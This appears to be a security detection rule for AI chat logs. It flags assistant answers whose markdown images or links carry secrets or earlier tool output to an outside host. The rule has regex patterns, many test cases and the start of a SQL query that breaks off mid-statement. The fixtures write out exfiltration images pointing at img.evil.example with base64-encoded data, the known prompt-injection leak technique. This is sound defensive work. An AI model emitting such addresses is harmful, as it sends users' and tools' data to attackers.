-- +++
-- title = "Image or link in an answer carries data out"
-- severity = "high"
-- confidence = "medium"
-- status = "stable"
-- tier = "signal"
-- since = "0.1.0"
-- what = "An answer holds an image whose address carries a secret or a long encoded value that nothing before had shown, or a link whose address carries what a tool had returned."
-- impact = "Displaying the image, or following the link, sends the value to that host."
-- false_positives = [
--   "Charts and badges that are made by an address.",
-- ]
-- next_steps = [
--   "Read the session around it.",
--   "SELECT time, tool, arguments, outcome FROM calls WHERE session_id = '{session_id}' ORDER BY time",
-- ]
-- references = []
-- tags = ["owasp-asi:2026:ASI01", "owasp-llm:2025:LLM05", "atlas:AML.T0077"]
-- [params]
-- # In a query, values may hold dots and colons; in a path, these are names of files. A secret is shown as ‹its kind›.
-- image = "!\\[[^\\]]*\\]\\((https?://(?:‹[^›)]+›|[^\\s)])+?(?:[?&/=][A-Za-z0-9%+/_-]{32,}=*|[?&][^\\s)&=]*=[A-Za-z0-9%+/_.~:@,-]{32,}|‹[^›)]+›)(?:‹[^›)]+›|[^\\s)])*)\\)"
-- link = "(?:^|[^!])\\[[^\\]]*\\]\\((https?://(?:‹[^›)]+›|[^\\s)])+?(?:[?&/=][A-Za-z0-9%+/_-]{32,}=*|[?&][^\\s)&=]*=[A-Za-z0-9%+/_.~:@,-]{32,}|‹[^›)]+›)(?:‹[^›)]+›|[^\\s)])*)\\)"
-- run = 4
-- quote_chars = 160
-- [[case]]
-- name = "an image with a long value"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "img.evil.example", count = 1, evidence = ["e#4"] },
-- ]
-- [[case]]
-- name = "value in the path"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![](https://e.example/a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2)", bytes = 63, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "e.example" },
-- ]
-- [[case]]
-- name = "shown only afterwards"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:06:00Z, record_id = 6 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { count = 1 },
-- ]
-- [[case]]
-- name = "another conversation showed it"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "d", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { count = 1 },
-- ]
-- [[case]]
-- name = "a short badge"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![ci](https://ci.example/badge.svg?branch=main)", bytes = 47, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "a link is not displayed by itself"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 78, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "the user gave the image"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m1", position = 1, role = "user", kind = "text", text = "see ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 83, time = 2026-03-01T09:01:00Z, record_id = 1 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "a result held the image"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "a result alone"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
-- ]
-- expect = []
-- [[case]]
-- name = "the user alone"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "user", kind = "text", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:02:00Z, record_id = 2 },
-- ]
-- expect = []
-- [[case]]
-- name = "a later result holds what another one had returned"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m3", position = 3, role = "tool", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ) see [x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:03:00Z, record_id = 3 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m3", position = 3, role = "tool", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ) see [x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:03:00Z, record_id = 3 },
-- ]
-- expect = []
-- [[case]]
-- name = "thinking is not displayed"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 79, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "the user had said something else"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m0", position = 0, role = "user", kind = "text", text = "Show me the chart.", bytes = 20, time = 2026-03-01T09:00:30Z, record_id = 1 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "img.evil.example", count = 1, evidence = ["e#4"] },
-- ]
-- [[case]]
-- name = "said twice by the model"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "assistant", kind = "text", text = "Done. ![x](https://img.evil.example/p.png?d=QWxsIHlvdXIgc2VjcmV0cyBhcmUgaGVyZSBub3cu)", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
-- ]
-- expect = [
--   { subject = "img.evil.example", evidence = ["e#4"] },
--   { subject = "img.evil.example", evidence = ["e#6"] },
-- ]
-- [[case]]
-- name = "the address holds what a tool had returned"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "img.evil.example", severity = "high", confidence = "high" },
-- ]
-- [[case]]
-- name = "what the user had typed is theirs"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "user", kind = "text", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "img.evil.example", severity = "high", confidence = "medium" },
-- ]
-- [[case]]
-- name = "returned only afterwards"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m6", position = 6, role = "tool", kind = "tool_result", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:06:00Z, record_id = 6 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { confidence = "medium" },
-- ]
-- [[case]]
-- name = "returned in another conversation"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "d", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "the quarterly numbers of the northern region are down by twelve percent", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { confidence = "medium" },
-- ]
-- [[case]]
-- name = "a tool had returned something else"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "nothing of the kind stands here at all", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { confidence = "medium" },
-- ]
-- [[case]]
-- name = "a host that the organisation knows"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- call_destinations = [ { call_uid = "c1", destination = "evil.example", novelty = "known", says = "x" } ]
-- expect = [
--   { severity = "low", confidence = "low" },
-- ]
-- [[case]]
-- name = "a host that was used once"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- call_destinations = [ { call_uid = "c1", destination = "evil.example", novelty = "seen", says = "x" } ]
-- expect = [
--   { severity = "high", confidence = "medium" },
-- ]
-- [[case]]
-- name = "another host that the organisation knows"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- call_destinations = [ { call_uid = "c1", destination = "il.example", novelty = "listed", says = "x" } ]
-- expect = [
--   { severity = "high", confidence = "medium" },
-- ]
-- [[case]]
-- name = "a link whose address holds what a tool had returned"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "img.evil.example", severity = "high", confidence = "high" },
-- ]
-- [[case]]
-- name = "a link, and a tool had returned something else"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "nothing of the kind stands here at all", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "such a link that is only thought of"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "thinking", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "such a link of the user"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "user", kind = "text", text = "[x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = []
-- [[case]]
-- name = "a harmless link before an image"
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m2", position = 2, role = "tool", kind = "tool_result", text = "Summary: the quarterly numbers of the northern region are down by twelve percent.", bytes = 85, time = 2026-03-01T09:02:00Z, record_id = 2 },
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[docs](https://docs.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) ![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", message_id = "m4", position = 4, role = "assistant", kind = "text", text = "[docs](https://docs.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) ![x](https://img.evil.example/p.png?d=dGhlIHF1YXJ0ZXJseSBudW1iZXJzIG9mIHRoZSBub3J0aGVybiByZWdpb24gYXJlIGRvd24gYnkgdHdlbHZlIHBlcmNlbnQ)", bytes = 85, time = 2026-03-01T09:04:00Z, record_id = 4 },
-- ]
-- expect = [
--   { subject = "img.evil.example", severity = "high", confidence = "high" },
-- ]
-- [[case]]
-- name = "a value with dots and percent signs that a tool had returned"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.evil.example/b.png?r=host%3Ddb-prod-03.int.corp.example%26user%3Dsettle_rw)", time = 2026-03-01T09:00:00Z },
-- ]
-- history_messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m0", position = 2, part = 0, role = "tool", kind = "text", text = "db: host=db-prod-03.int.corp.example user: settle_rw batch: 200", time = 2026-03-01T09:00:00Z },
-- ]
-- expect = [
--   { subject = "img.evil.example", confidence = "high", evidence = ["e#1"] },
-- ]
-- [[case]]
-- name = "a secret in the address of an image"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.evil.example/b.png?p=‹generic-password 20 chars›)", time = 2026-03-01T09:00:00Z },
-- ]
-- expect = [
--   { confidence = "high", evidence = ["e#1"] },
-- ]
-- [[case]]
-- name = "a secret after an ordinary value"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.evil.example/b.png?u=settle&p=‹generic-password 20 chars›&z=1)", time = 2026-03-01T09:00:00Z },
-- ]
-- expect = [
--   { confidence = "high" },
-- ]
-- [[case]]
-- name = "a secret beside an image"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.example/b.png) and ‹generic-password 20 chars›", time = 2026-03-01T09:00:00Z },
-- ]
-- expect = []
-- [[case]]
-- name = "a long name of a file with dots"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.example/docs/v1.2.3/guide.intro.start.en.figure-1.final.png)", time = 2026-03-01T09:00:00Z },
-- ]
-- expect = []
-- [[case]]
-- name = "a short value"
-- messages = [
--   { login = "ana", device = "n1", session_id = "s", conversation_id = "c", export_key = "e", record_id = 1, message_id = "m1", position = 3, part = 0, role = "assistant", kind = "text", text = "![b](https://img.example/b.svg?style=flat.square&label=v1.2.3)", time = 2026-03-01T09:00:00Z },
-- ]
-- expect = []
-- +++
WITH found AS (
  SELECT m.*, true AS image, regexp_match(m.text, $image)[1] AS address
  FROM messages m
  WHERE m.role = 'assistant' AND m.kind = 'text' AND regexp_like(m.text, $image)
  UNION ALL
  SELECT m.*, false, regexp_match(m.text, $link)[1]
  FROM messages m
